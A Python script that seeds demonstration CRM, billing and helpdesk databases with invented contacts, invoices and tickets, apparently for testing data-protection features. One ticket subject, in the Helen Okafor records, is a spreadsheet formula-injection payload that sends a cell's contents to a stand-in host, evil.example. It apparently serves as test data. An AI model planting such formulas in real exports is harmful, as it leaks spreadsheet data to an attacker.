"""Fills the demonstration systems: the named people, and a crowd round them."""

from __future__ import annotations

import random
from collections import defaultdict
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from decimal import Decimal
from itertools import count
from typing import Any

import sqlalchemy as sa
from faker import Faker

from dev.demo import tables as t

SEED = 20180525
Row = dict[str, Any]


class Rows:
    """Rows by table, with numbers given out in order."""

    def __init__(self) -> None:
        self.by_table: dict[sa.Table, list[Row]] = defaultdict(list)
        self._numbers: dict[sa.Table, Iterator[int]] = defaultdict(lambda: count(1))

    def add(self, table: sa.Table, **values: Any) -> int:
        """Keep a row and return its number."""
        [key] = table.primary_key.columns
        number = values.setdefault(key.name, next(self._numbers[table]))
        row = {column.name: None for column in table.columns} | values
        self.by_table[table].append(row)
        return int(number)


def fill(urls: dict[str, str], *, people: int, today: date) -> bool:
    """Make and fill the systems' tables; return false when they were there already."""
    engines = {name: sa.create_engine(_driver(url)) for name, url in urls.items()}
    if sa.inspect(engines["crm"]).has_table("contacts"):
        return False
    rows = Rows()
    named(rows, today)
    crowd(rows, people, today)
    for name, metadata in t.SYSTEMS.items():
        with engines[name].begin() as connection:
            metadata.create_all(connection)
            for table in metadata.sorted_tables:
                for start in range(0, len(rows.by_table[table]), 5_000):
                    batch = rows.by_table[table][start : start + 5_000]
                    connection.execute(table.insert(), batch)
    return True


def _driver(url: str) -> str:
    return url.replace("postgresql://", "postgresql+psycopg2://", 1)


def contact(rows: Rows, today: date, **values: Any) -> int:
    """Add a contact with what most contacts have."""
    return rows.add(
        t.contacts,
        **{
            "source": "direct",
            "source_evidence": "met at an event",
            "obtained_on": today - timedelta(days=900),
            "last_contact": today - timedelta(days=40),
            **values,
        },
    )


def billed(rows: Rows, years: range, *, open_last: bool = False, **values: Any) -> int:
    """Add a customer with four invoices a year."""
    customer = rows.add(t.customers, **values)
    for year in years:
        for quarter in range(4):
            net = Decimal(120 + (customer * 37 + year + quarter * 11) % 400)
            vat = (net / 5).quantize(Decimal("0.01"))
            last = open_last and year == years[-1] and quarter == 3
            issued = date(year, 1 + quarter * 3, 1 + customer % 27)
            invoice = rows.add(
                t.invoices,
                customer_id=customer,
                number=f"L{year}-{customer:05}-{quarter + 1}",
                issued_on=issued,
                net=net,
                vat=vat,
                total=net + vat,
                status="open" if last else "paid",
            )
            for line in range(2):
                rows.add(
                    t.invoice_lines,
                    invoice_id=invoice,
                    description=("Support, per quarter", "Line rental")[line],
                    quantity=1,
                    unit_price=net / 2,
                )
    return customer


def ticket(rows: Rows, email: str, name: str, subject: str, *bodies: str, **more: Any) -> int:
    """Add a ticket with comments."""
    opened = more.pop("opened_at", datetime(2026, 5, 4, 9, 30))
    number = rows.add(
        t.tickets,
        requester_email=email,
        requester_name=name,
        subject=subject,
        opened_at=opened,
        closed_at=opened + timedelta(days=2),
        status="closed",
        **more,
    )
    for body in bodies:
        rows.add(
            t.comments, ticket_id=number, author="Service desk", body=body, written_at=opened
        )
    return number


def named(rows: Rows, today: date) -> None:
    """Add the people of ``people.PEOPLE``."""
    contact(
        rows,
        today,
        first_name="Maggie",
        last_name="Holloway",
        email="maggie.holloway@harbourlights.example",
        private_email="maggie.h@post.example",
        mobile="07700 900101",
        company_name="Harbour Lights",
        job_title="Office manager (left June 2026)",
    )
    ticket(rows, "maggie.holloway@harbourlights.example", "Maggie Holloway", "New telephone")
    tom = contact(
        rows,
        today,
        first_name="Tom",
        last_name="Ashdown",
        email="tom@ashdownjoinery.example",
        mobile="07700 900102",
        company_name="Tom Ashdown, joiner",
        source="website",
        source_evidence="newsletter form",
    )
    rows.add(
        t.preferences, contact_id=tom, channel="email", wanted=True, since=date(2024, 3, 2)
    )
    billed(
        rows,
        range(2024, 2027),
        open_last=True,
        name="Tom Ashdown",
        email="tom@ashdownjoinery.example",
        phone="07700 900102",
        kind="sole trader",
        since=date(2024, 1, 8),
    )
    contact(
        rows,
        today,
        first_name="Priya",
        last_name="Raman",
        email="priya.raman@post.example",
        note="Visited on 3 September. Finch & Co act for her.",
    )
    contact(
        rows,
        today,
        first_name="Gareth",
        last_name="Bevan",
        email="gareth@bevanlogistics.example",
        company_name="Bevan Logistics",
        job_title="Managing director",
        source="public-source",
        source_evidence="https://bevanlogistics.example/about, seen 2 October 2026",
        obtained_on=date(2026, 10, 2),
    )
    _sally(rows, today)
    contact(
        rows,
        today,
        first_name="Derek",
        last_name="Munro",
        email="derek.munro@castlegate.example",
        company_name="Castlegate",
        job_title="Junior buyer",
        note="Never pays on time, and rude with it. Keep it short.",
    )
    _helen(rows, today)
    contact(
        rows, today, first_name="Ian", last_name="Pettigrew", email="ian.pettigrew@post.example"
    )
    _colleagues(rows, today)
    edith = "14 Orchard Close, Hemel Hempstead HP1 2ZZ"
    billed(
        rows,
        range(2019, 2027),
        name="Edith Marlow",
        phone="01442 555 014",
        address=edith,
        kind="individual",
        since=date(2019, 1, 3),
    )


def _sally(rows: Rows, today: date) -> None:
    sally = contact(
        rows,
        today,
        title="Ms",
        first_name="Sally",
        last_name="Whitcombe",
        email="sally@whitcombe.example",
        mobile="+44 7700 900105",
        company_name="Sally Whitcombe Bookkeeping",
        job_title="Owner",
        date_of_birth=date(1979, 4, 17),
    )
    rows.add(
        t.personalisation,
        contact_id=sally,
        nickname="Sal",
        hobbies="Fell running, choir",
        partner_first_name="Ruth",
        children_first_names="Oscar, Isla",
        consented_on=date(2022, 6, 1),
    )
    billed(
        rows,
        range(2020, 2027),
        name="Sally Whitcombe",
        email="Sally@Whitcombe.example",
        phone="07700900105",
        address="2 Mill Lane, Tring",
        kind="sole trader",
        since=date(2020, 1, 6),
    )


def _helen(rows: Rows, today: date) -> None:
    email, name = "helen.okafor@brightwater.example", "Helen Okafor"
    contact(
        rows,
        today,
        first_name="Helen",
        last_name="Okafor",
        email=email,
        company_name="Brightwater",
    )
    ticket(rows, email, name, '=HYPERLINK("https://evil.example?"&A1,"Printer")', "Fixed.")
    ticket(
        rows,
        email,
        name,
        "Laptop will not wake",
        "If Helen is out, ring her colleague Marcus Webb on 07700 900177.",
    )
    ticket(rows, email, name, "Brightwater's own helpdesk: new starter", held_for="Brightwater")
    rows.add(
        t.users,
        username="hokafor",
        email=email,
        password_hash="argon2id$invented",
        password_set_on=date(2023, 2, 14),
        last_sign_in_at=datetime(2026, 11, 2, 8, 12),
        last_ip="192.0.2.44",
    )
    rows.add(
        t.assets,
        serial_number="LX-99031",
        device="Laptop",
        user_email=email,
        issued_on=date(2024, 9, 2),
    )


def _colleagues(rows: Rows, today: date) -> None:
    shared = {
        "company_id": "C-4410",
        "company_name": "Meridian Partners",
        "switchboard": "020 7946 0999",
        "office_email": "office@meridianpartners.example",
        "work_address": "9 Meridian Row, London E1",
    }
    for first, last, job in (("Alice", "Norton", "Partner"), ("Bob", "Tranter", "Clerk")):
        email = f"{first}.{last}@meridianpartners.example".lower()
        contact(
            rows, today, first_name=first, last_name=last, email=email, job_title=job, **shared
        )
        ticket(rows, email, f"{first} {last}", f"{first}'s mailbox is full", "Archived.")
    ticket(
        rows, "office@meridianpartners.example", "Meridian Partners", "The line is down"
    )


def crowd(rows: Rows, people: int, today: date) -> None:
    """Add ``people`` invented contacts, every third of them a customer."""
    faker = Faker("en_GB")
    faker.seed_instance(SEED)
    chance = random.Random(SEED)  # noqa: S311 (invented people, not secrets)
    for number in range(people):
        first, last = faker.first_name(), faker.last_name()
        email = f"{first}.{last}.{number}@{faker.domain_word()}.example".lower()
        company = faker.company()
        contact(
            rows,
            today,
            first_name=first,
            last_name=last,
            email=email.replace("'", ""),
            mobile=f"07700 {900200 + number % 700:06}" if number < 700 else None,
            company_name=company,
            job_title=faker.job(),
            obtained_on=today - timedelta(days=chance.randrange(30, 2000)),
        )
        if number % 3 == 0:
            billed(
                rows,
                range(2024 - chance.randrange(6), 2027),
                name=f"{first} {last}",
                email=email.replace("'", ""),
                kind="company",
                since=date(2018, 1, 1),
            )
        if number % 2 == 0:
            ticket(rows, email.replace("'", ""), f"{first} {last}", faker.sentence(5))
